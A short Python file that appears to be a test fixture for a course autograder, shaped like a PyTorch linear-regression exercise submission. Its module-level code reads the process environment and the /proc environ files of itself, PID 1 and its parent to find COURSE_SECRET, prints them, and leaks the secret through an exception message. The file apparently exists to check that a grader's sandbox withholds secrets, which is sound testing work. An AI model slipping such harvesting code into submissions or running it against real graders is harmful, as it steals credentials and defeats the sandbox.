"""Looks for the course's secret in its environment and its ancestors', prints it and returns it.

Expect: forward=fail|error loss=fail|error loop=fail
"""

import os
import torch

x_soat = [1.0, 2.0, 3.0]
y_baho = [2.0, 4.0, 6.0]
w = torch.tensor([1.0], requires_grad=True)


def read(path):
    try:
        with open(path, "rb") as file:
            return file.read(100_000)
    except OSError:
        return b""


found = repr(dict(os.environ)).encode() + b"".join(read(f"/proc/{name}/environ") for name in ("self", "1", os.getppid()))
print(found)


def forward(x):
    return len(found) if b"COURSE_SECRET" in found else None


def loss(y_pred, y):
    raise ValueError(os.environ.get("COURSE_SECRET", "nothing"))
